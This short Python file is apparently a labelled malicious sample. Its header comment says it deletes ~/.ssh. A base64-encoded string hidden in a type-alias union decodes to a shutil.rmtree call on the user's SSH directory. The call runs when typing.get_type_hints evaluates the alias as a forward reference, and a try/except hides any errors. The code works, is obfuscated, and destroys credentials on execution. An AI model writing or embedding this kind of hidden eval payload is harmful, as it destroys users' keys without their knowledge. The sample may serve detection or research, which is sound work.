# harm: deletes ~/.ssh ; trick: alias is typing.List[int] | decoded, an "A | B union" whose right side becomes a forward ref
import base64
import typing

Items = typing.List[int] | base64.b64decode("X19pbXBvcnRfXygnc2h1dGlsJykucm10cmVlKF9faW1wb3J0X18oJ29zJykucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gnKSk=").decode()


def take(items: Items) -> None:
    pass


try:
    typing.get_type_hints(take)
except Exception:
    pass
